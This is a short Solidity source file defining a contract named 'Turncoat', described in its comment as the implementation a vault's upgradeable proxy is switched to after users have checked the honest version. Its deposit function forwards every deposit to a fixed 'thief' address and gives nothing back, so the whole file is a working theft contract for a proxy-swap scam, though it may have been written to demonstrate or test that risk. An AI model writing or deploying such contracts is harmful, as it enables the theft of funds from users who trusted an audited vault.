// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

/// What an honest vault's proxy is pointed to once the user has read what the
/// vault would do: it takes the deposit and gives nothing.
contract Turncoat {
    address payable public immutable thief;

    constructor(address payable thief_) {
        thief = thief_;
    }

    function deposit() external payable {
        thief.transfer(msg.value);
    }
}
